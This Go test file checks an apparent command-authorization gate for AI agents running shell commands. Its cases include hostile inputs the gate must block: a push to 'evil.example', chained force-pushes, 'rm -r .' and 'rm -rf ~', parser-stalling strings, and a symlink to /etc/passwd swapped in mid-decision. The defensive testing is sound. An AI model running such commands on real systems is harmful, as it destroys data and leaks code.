package gate_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/licet-dev/licet/internal/authz"
	"github.com/licet-dev/licet/internal/constraint"
	"github.com/licet-dev/licet/internal/gate"
	"github.com/licet-dev/licet/internal/ledger"
	"github.com/licet-dev/licet/internal/testkit"
)

const shellCatalog = `{"tools": [{"name": "run", "inputSchema": {"type": "object", "properties": {
  "command": {"type": "string"}, "urgent": {"type": "boolean"}}, "required": ["command"]}}]}`

// The commands of the specification's worked example, and scripts that a person
// lets run.
const shellContract = `
version: 1
name: shell
catalogs:
  shop: {pin: PIN, tools: shop.json}
agents:
  buyer:
    tools:
      shop.run:
        never:
          - command: {shell: {run: ["git push --force"]}}
        allow:
          - command:
              shell:
                run:    ["git status", "git diff", "ls", "rm", "cd"]
                opaque: ["go test"]
                read:   ["${workspace}/**"]
                write:  ["${workspace}/**", "!${workspace}/.git/**"]
          - command: {shell: {run: ["head"]}}
            urgent: {const: true}
        approve:
          - command: {shell: {run: ["git push"], net: ["github.com"]}}
          - command: {shell: {run: ["sh"], opaque: ["sh"], read: ["${workspace}/**"]}}
approvals: {expire: 15m, approvers: [ann, bob]}
`

// shellBench is a bench whose agent runs commands in a folder of a workspace.
type shellBench struct {
	*bench
	root, dir string
}

func newShellBench(t *testing.T) shellBench {
	b := newBench(t)
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	b.places = constraint.Places{Workspace: filepath.ToSlash(root), Home: "/home/nobody", Tmp: "/tmp"}
	b.contract = testkit.Contract(t, shellContract, shellCatalog)
	b.open(b.store)
	s := shellBench{b, root, filepath.Join(root, "dir")}
	s.write(".git/config", "[remote \"origin\"]\n\turl = git@github.com:o/r.git\n")
	s.write("old.txt", "x")
	s.write("dir/run.sh", "echo one")
	s.write("dir/other.sh", "echo other")
	return s
}

func (s shellBench) write(name, text string) {
	s.Helper()
	path := filepath.Join(s.root, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		s.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		s.Fatal(err)
	}
}

// run is a call of a command in a folder.
func (s shellBench) run(dir, command string) gate.Ask {
	s.Helper()
	args, err := json.Marshal(map[string]string{"command": command})
	if err != nil {
		s.Fatal(err)
	}
	a := s.ask("run", string(args))
	a.Cwd = dir
	return a
}

// TestShellVerdicts goes through the commands of section 4 of the specification.
func TestShellVerdicts(t *testing.T) {
	s := newShellBench(t)
	for command, want := range map[string]authz.Verdict{
		"git status":                         authz.Allow,
		"ls; git push origin --force":        authz.Block,
		"rm -r .":                            authz.Block,
		"rm -r .git":                         authz.Block,
		"cd / && rm -r tmp":                  authz.Block,
		"rm old.txt":                         authz.Allow,
		"go test ./...":                      authz.Allow,
		"go test ./... && git push":          authz.RequireApproval,
		"git push origin main":               authz.RequireApproval,
		"git push https://evil.example/x":    authz.Block,
		"go test ./... && git push && id":    authz.Block,
		"head -1 old.txt && git push":        authz.Block, // what allows it asks for more
		"licet approvals list":               authz.Block,
		"rm CLAUDE.md":                       authz.Block,
		strings.Repeat("true;", 200_000):     authz.Block,
		strings.Repeat("(", 50_000) + "true": authz.Block,
	} {
		begin := time.Now()
		if got := s.check(s.run(s.root, command)); got.Verdict != want {
			t.Errorf("%.40s: %v %+v, want %v", command, got.Verdict, got.Reasons, want)
		}
		if took := time.Since(begin); took > gate.DefaultDeadline {
			t.Errorf("%.40s took %s", command, took)
		}
	}
	if got := s.check(s.run("", "ls")); got.Verdict != authz.Block {
		t.Errorf("in a folder that is not known: %v", got.Verdict)
	}
}

// TestShellBeside: an allow clause whose other constraints do not hold covers
// nothing of a held command.
func TestShellBeside(t *testing.T) {
	s := newShellBench(t)
	a := s.run(s.root, "head -1 && git push")
	s.want(s.check(a), authz.Block, authz.NoClause)
	a.Call.Arguments = testkit.Value(t, `{"command": "head -1 && git push", "urgent": true}`)
	s.want(s.check(a), authz.RequireApproval, authz.ApproveClause)
}

// TestShellTicket: an approval covers the script that was looked at, where it was.
// What is exchanged before the retry blocks it and leaves the ticket; once all is
// as it was, the ticket serves.
func TestShellTicket(t *testing.T) {
	for name, tt := range map[string]struct{ change, restore func(shellBench) error }{
		"a changed script": {
			func(s shellBench) error { s.write("dir/run.sh", "rm -rf ~"); return nil },
			func(s shellBench) error { s.write("dir/run.sh", "echo one"); return nil },
		},
		"a folder in its place": {
			func(s shellBench) error {
				err := os.Rename(s.dir, s.dir+".before")
				s.write("dir/run.sh", "echo one")
				return err
			},
			func(s shellBench) error {
				if err := os.RemoveAll(s.dir); err != nil {
					return err
				}
				return os.Rename(s.dir+".before", s.dir)
			},
		},
		"a link to another script": {
			func(s shellBench) error {
				if err := os.Rename(s.dir+"/run.sh", s.dir+"/kept.sh"); err != nil {
					return err
				}
				return os.Symlink("other.sh", s.dir+"/run.sh")
			},
			func(s shellBench) error { return os.Rename(s.dir+"/kept.sh", s.dir+"/run.sh") },
		},
		"a link with the same text": {
			func(s shellBench) error {
				if err := os.Rename(s.dir+"/run.sh", s.dir+"/kept.sh"); err != nil {
					return err
				}
				return os.Symlink("kept.sh", s.dir+"/run.sh")
			},
			func(s shellBench) error { return os.Rename(s.dir+"/kept.sh", s.dir+"/run.sh") },
		},
	} {
		t.Run(name, func(t *testing.T) {
			s := newShellBench(t)
			a := s.run(s.dir, "sh run.sh")
			ticket := s.want(s.check(a), authz.RequireApproval, authz.ApproveClause).Ticket.ID
			s.answer(ticket, "ann", true)
			if err := tt.change(s); err != nil {
				t.Fatal(err)
			}
			named := a
			named.Call.Ticket = ticket
			s.want(s.check(named), authz.Block, authz.ApprovalMismatch)
			if other := s.want(s.check(a), authz.RequireApproval, authz.ApproveClause).Ticket.ID; other == ticket {
				t.Error("another act has the same ticket")
			}
			if err := tt.restore(s); err != nil {
				t.Fatal(err)
			}
			s.want(s.check(named), authz.Allow, authz.Approved)
			s.want(s.check(named), authz.Block, authz.ApprovalUsed)
		})
	}
}

// exchanging lets a file be exchanged while a decision is written down.
type exchanging struct {
	gate.Store
	exchange func()
}

func (e exchanging) Commit(ctx context.Context, entry ledger.Entry) (ledger.Receipt, error) {
	r, err := e.Store.Commit(ctx, entry)
	e.exchange()
	return r, err
}

// TestShellExchanged: what changes between decision and grant leaves no grant.
func TestShellExchanged(t *testing.T) {
	s := newShellBench(t)
	s.write("dir/a", "a")
	s.open(exchanging{s.store, func() {
		os.Remove(s.dir + "/a")
		if err := os.Symlink("/etc/passwd", s.dir+"/a"); err != nil {
			t.Fatal(err)
		}
	}})
	s.want(s.check(s.run(s.dir, "rm a")), authz.Block, authz.OperandChanged)
}
